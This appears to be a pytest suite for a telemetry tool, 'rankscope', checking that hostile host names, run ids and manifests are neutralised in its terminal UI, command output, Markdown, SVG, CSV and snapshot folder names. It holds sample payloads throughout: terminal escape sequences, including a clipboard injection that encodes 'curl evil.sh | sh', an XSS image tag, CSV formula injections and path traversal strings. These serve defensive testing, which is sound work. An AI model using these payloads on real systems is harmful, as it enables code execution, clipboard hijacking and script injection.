"""Untrusted telemetry at every output: the sanitiser itself, the TUI, the commands'
printed output, ``snapshot.md``, ``screen.svg``, CSV cells and snapshot folder names.

The hostile recording is written through the hub's own intake (`test_inspect.record`), as
a collector would deliver it: host names carrying OSC 2 (terminal title), OSC 52
(clipboard) and CSI sequences, a job name with CSI, a run id with ``../`` and ``%``, and
a manifest with raw HTML, an image link and a link.
"""

from __future__ import annotations

import asyncio
import csv
import json
import os
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import numpy as np
import pytest
from test_hub_job import BASE, header, identity, job
from test_inspect import record

from rankscope.cli import main
from rankscope.collector import schema
from rankscope.sanitize import (
    clean_window,
    for_csv_cell,
    for_filename,
    for_markdown,
    for_markdown_code,
    for_markup,
    for_terminal,
    for_xml,
    terminal_text,
    xml_chars,
)

ESC = "\x1b"
OSC_TITLE = "\x1b]2;pwned-title\x07"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
CSI = "\x1b[2J\x1b[31m"
HOSTS = (f"node{OSC_TITLE}|a", f"node{OSC_CLIPBOARD}{CSI}b")
RUN = "../../%Y%m%d-%H%M%S-evil"
ESC_RUN = f"early{OSC_TITLE}"
"""An earlier run of the same recording, whose id carries an escape."""
JOB = f"job{CSI}"
IMG = "![pixel](http://evil.example/p.png)"
HTML = "<img src=x onerror=alert(1)>"
LINK = "[click me](http://evil.example/)"
MANIFEST = {
    "torch": "2.13",
    "argv": ["train.py", "--lr", "0.1"],
    "versions": {"torch": f"2.13{OSC_TITLE}"},
    "job_config": {"model": f"{HTML}{IMG}{LINK}", "precision": "bf16`|`"},
}


def hostile_recording(path: Path) -> Path:
    """Two four-rank runs on two hosts with every hostile string above (``RUN`` last)."""
    jobs = []
    for run in (ESC_RUN, RUN):
        j = job(world=4, steps=8, slow=2, run=run, name=JOB)
        for r in range(4):
            ident = {**identity(r, 4), "host": HOSTS[r // 2]}
            j.messages[2 * r] = schema.hello_message(
                header(run, r, JOB), ident, manifest={**MANIFEST, "rank": r}, t_start_ns=BASE
            )
        jobs.append(j)
    record(path, *jobs)
    return path


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    return hostile_recording(tmp_path_factory.mktemp("hostile") / "rec")


@pytest.fixture(scope="module")
def hostile_bundle(hostile, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("snap") / "bundle"
    assert main(["snapshot", str(hostile), "--out", str(out), "--steps", "6"]) == 0
    return out


# -- the sanitiser ------------------------------------------------------------------------


def test_for_terminal_shows_every_control_as_an_escape() -> None:
    hostile = f"a{OSC_TITLE}{OSC_CLIPBOARD}{CSI}\x9b31m\x9d0;t\x9c\u202egnp.exe\u2066\x7f\n\tz"
    clean = for_terminal(hostile)
    assert clean.isprintable()
    assert ESC not in clean and "\x9b" not in clean and "\u202e" not in clean
    assert "\\x1b]2;pwned-title\\x07" in clean and "\\u202e" in clean and "\\x0a" in clean
    assert for_terminal("gpu-node-007 ünïcode") == "gpu-node-007 ünïcode"
    assert for_terminal(clean) == clean  # idempotent
    assert terminal_text("a\nb\tc\x1bd") == "a\nb\tc\\x1bd"
    assert for_markup("[bold]x[/bold]") == "\\[bold]x\\[/bold]"


def test_for_markdown_neutralises_html_images_links_code_and_pipes() -> None:
    md = for_markdown(f"{HTML}{IMG}{LINK} `code` a|b <http://x>")
    assert "<" not in md and "&lt;img" in md
    assert "![" not in md and "](" not in md.replace("\\](", "")
    assert "\\`code\\`" in md and "a\\|b" in md
    assert for_markdown("network_rail slow_device") == "network_rail slow_device"
    assert for_markdown_code("a`b`") == "a'b'"


def test_for_xml_and_xml_chars() -> None:
    assert for_xml("a\x01\x1b<b>&\ufffe") == "a&lt;b&gt;&amp;"
    assert xml_chars("<t>a\x00\x08\x0b\x1bb\tc</t>") == "<t>ab\tc</t>"
    ET.fromstring(f"<t>{for_xml(OSC_CLIPBOARD + CSI + HTML)}</t>")


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_for_csv_cell_neutralises_formula_prefixes(first: str) -> None:
    assert for_csv_cell(f"{first}HYPERLINK(1)") == f"'{first}HYPERLINK(1)"
    assert for_csv_cell("node-1=2") == "node-1=2"


@pytest.mark.parametrize(
    ("raw", "expect"),
    [
        ("../../etc/passwd", "____etc_passwd"),
        ("..", "run"),
        ("%Y%m%d", "_Y_m_d"),
        (".hidden", "_hidden"),
        ("-rf", "_rf"),
        ("a..b", "a_b"),
        ("run-01.a_b", "run-01.a_b"),
        ("", "run"),
    ],
)
def test_for_filename_is_one_safe_component(raw: str, expect: str) -> None:
    name = for_filename(raw)
    assert name == expect
    assert re.fullmatch(r"[A-Za-z0-9._-]+", name) and ".." not in name
    assert len(for_filename("x" * 500)) == 80


def test_clean_window_cleans_display_strings_and_keeps_run_ids(hostile) -> None:
    from rankscope.hub import replay

    window = replay.load(hostile).window(RUN, last=6)
    clean = clean_window(window)
    assert clean.run == RUN  # a key: kept as recorded
    for text in (clean.job, *clean.ranks.hosts, json.dumps(clean.manifest, ensure_ascii=False)):
        assert ESC not in text
    assert clean.ranks.hosts == tuple(for_terminal(h) for h in HOSTS)
    assert np.array_equal(clean.step_ns, window.step_ns, equal_nan=True)
    tame = clean_window(clean)
    assert tame is clean  # nothing left to clean: no copy


# -- the TUI -------------------------------------------------------------------------------


def test_tui_host_with_osc2_osc52_csi_is_shown_escaped(hostile, tmp_path, monkeypatch) -> None:
    from textual.widgets import DataTable
    from tui_pilot import settle

    from rankscope.tui.app import make_app
    from rankscope.tui.settings import deterministic_settings
    from rankscope.tui.sources import RecordingSource

    monkeypatch.chdir(tmp_path)
    app = make_app(deterministic_settings(), RecordingSource(hostile, follow=False))

    def cells() -> list[str]:
        return [
            str(c)
            for table in app.screen.query(DataTable)
            for row in range(table.row_count)
            for c in table.get_row_at(row)
        ]

    async def scenario() -> dict[str, tuple[str, list[str]]]:
        shots = {}
        async with app.run_test(size=(140, 44)) as pilot:
            await settle(app, pilot, analysis=True)
            app.group_by = "host"
            await pilot.pause(0.3)
            shots["main"] = (app.export_screenshot(), cells())
            await pilot.press("d")  # the manifest: versions.torch carries OSC 2
            await pilot.pause(0.5)
            shots["manifest"] = (app.export_screenshot(), cells())
            await pilot.press("escape", "b")  # the baseline picker lists ESC_RUN
            await pilot.pause(0.5)
            shots["baseline"] = (app.export_screenshot(), cells())
        return shots

    shots = asyncio.run(scenario())
    for name, (svg, table_cells) in shots.items():
        assert ESC not in svg and "\x07" not in svg, name
        ET.fromstring(svg)  # well-formed
        assert all(ESC not in c for c in table_cells), name
        text = re.sub(r"<[^>]+>", "", svg).replace("&#160;", " ")
        # The hostile strings are on screen, as visible escapes.
        assert "\\x1b]" in text, f"{name}: no hostile string on screen at all"
    assert "early\\x1b]2;pwned" in re.sub(r"<[^>]+>", "", shots["baseline"][0])


# -- the commands ----------------------------------------------------------------------------


@pytest.mark.parametrize("command", ["inspect", "diagnose", "ladder", "export"])
def test_command_output_has_no_terminal_escape(hostile, capsys, tmp_path, command) -> None:
    extra = ["--csv", str(tmp_path / "csv")] if command == "export" else []
    if command in ("export", "ladder"):
        extra += ["--run", ESC_RUN]  # these print the run id
    assert main([command, str(hostile), *extra]) == 0
    out = capsys.readouterr().out
    assert ESC not in out and "\x07" not in out
    shown = for_terminal(HOSTS[1]) if command == "inspect" else "\\x1b]2;pwned-title"
    assert shown in out  # the name is shown, as visible escapes


def test_report_and_snapshot_output_have_no_terminal_escape(
    hostile, hostile_bundle, capsys, tmp_path, monkeypatch
) -> None:
    monkeypatch.chdir(tmp_path)
    assert main(["snapshot", str(hostile), "--steps", "6"]) == 0
    assert main(["report", str(hostile_bundle), "--width", "160"]) == 0
    out = capsys.readouterr().out
    assert ESC not in out and "\x07" not in out
    assert for_terminal(HOSTS[0]) in out
    assert "pwned-title" in out  # shown, inert


def test_snapshot_md_has_no_raw_html_or_image_link(hostile_bundle) -> None:
    md = (hostile_bundle / "snapshot.md").read_text()
    assert ESC not in md and "\x07" not in md
    assert "<img" not in md and "![" not in md
    assert not re.search(r"(?<!\\)\]\(", md), "an unescaped link target"
    assert "&lt;img src=x onerror=alert(1)&gt;" in md  # shown as text
    assert "- `job_config.model`:" in md
    # Every row of a table has its header's cells: a telemetry pipe ("node...|a") is escaped.
    tables: list[list[int]] = [[]]
    for line in md.splitlines():
        if line.startswith("|"):
            tables[-1].append(len(re.findall(r"(?<!\\)\|", line)))
        elif tables[-1]:
            tables.append([])
    assert any(len(t) > 2 for t in tables)
    assert all(len(set(t)) <= 1 for t in tables), tables
    assert for_markdown(for_terminal(HOSTS[0])) in md


def test_screen_svg_is_well_formed_with_control_chars_in_names(hostile_bundle, tmp_path) -> None:
    ET.parse(hostile_bundle / "screen.svg")
    # The writer's last line of defence: an SVG given with raw control characters.
    from rankscope.hub import replay
    from rankscope.snapshot import take_snapshot

    window = replay.load(hostile_bundle / "window").window(RUN, last=6)
    raw = f'<svg xmlns="http://www.w3.org/2000/svg"><text>{HOSTS[1]}\x01\x0b</text></svg>'
    bundle = take_snapshot(tmp_path / "b", window, screen_svg=raw)
    ET.parse(bundle.folder / "screen.svg")


def test_csv_formula_cells_are_neutralised(tmp_path) -> None:
    from rankscope.hub.export_csv import write_csv
    from rankscope.hub.intake import Intake
    from rankscope.hub.recording import RecordingWriter
    from rankscope.hub.store import Store

    hosts = ('=HYPERLINK("http://evil","x")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3")
    j = job(world=8, steps=4, run="=1+1", name="j")
    for r in range(8):
        ident = {**identity(r, 8, hosts=4), "host": hosts[r // 2]}
        j.messages[2 * r] = schema.hello_message(
            header("=1+1", r, "j"), ident, manifest={}, t_start_ns=BASE
        )
    store = Store()
    w = RecordingWriter(tmp_path / "rec")
    intake = Intake(store, w)
    for m in j.messages:
        intake.feed(m)
    w.close({})
    write_csv(tmp_path / "csv", store.window("=1+1", last=4))
    with (tmp_path / "csv" / "ranks.csv").open(newline="") as fh:
        ranks = list(csv.DictReader(fh))
    assert sorted({row["host"] for row in ranks}) == sorted("'" + h for h in hosts)
    with (tmp_path / "csv" / "rank_steps.csv").open(newline="") as fh:
        steps = list(csv.DictReader(fh))
    assert {row["run"] for row in steps} == {"'=1+1"}
    assert all(not row["host"].startswith(("=", "+", "-", "@")) for row in steps)


def test_snapshot_folder_name_stays_inside_the_working_dir_and_is_literal(
    hostile, tmp_path, monkeypatch
) -> None:
    work = tmp_path / "work" / "deep"
    work.mkdir(parents=True)
    monkeypatch.chdir(work)
    assert main(["snapshot", str(hostile), "--steps", "4"]) == 0
    made = [p for p in work.iterdir() if not p.name.startswith(".")]
    assert len(made) == 1 and made[0].is_dir(), sorted(os.listdir(work))
    assert not any(p.name.startswith("snapshot") for p in (tmp_path / "work").iterdir())
    assert not any(p.name.startswith("snapshot") for p in tmp_path.iterdir())
    name = made[0].name
    # The run id's own "%Y%m%d-%H%M%S" was not expanded by strftime: its letters remain.
    assert re.fullmatch(r"snapshot-_+Y_m_d-_H_M_S-evil-\d{8}-\d{6}", name), name
    content = json.loads((made[0] / "snapshot.json").read_text())
    assert content["run"] == RUN  # the data keeps the id as recorded
    manifests = [p.name for p in (made[0] / "manifests").iterdir()]
    assert manifests == [f"{for_filename(RUN, max_len=120)}.json"]


def test_viewer_snapshot_folder_name_is_safe(hostile, tmp_path) -> None:
    from rankscope.snapshot import View, snapshot_from_source
    from rankscope.tui.sources import RecordingSource

    bundle = snapshot_from_source(
        tmp_path, RecordingSource(hostile, follow=False), View(), last=4, screen_svg=None
    )
    assert bundle.folder.parent == tmp_path
    assert re.fullmatch(r"snapshot-_+Y_m_d-_H_M_S-evil-\d{8}-\d{6}", bundle.folder.name)


def test_command_errors_show_escapes_instead_of_sending_them(tmp_path, capsys) -> None:
    from rankscope.cli import main

    bad = str(tmp_path / "no\x1b]2;pwned\x07such")
    assert main(["inspect", bad]) == 2
    err = capsys.readouterr().err
    assert err.startswith("rankscope: error:") and "\x1b" not in err and "\x07" not in err
    assert "\\x1b]2;pwned" in err, err
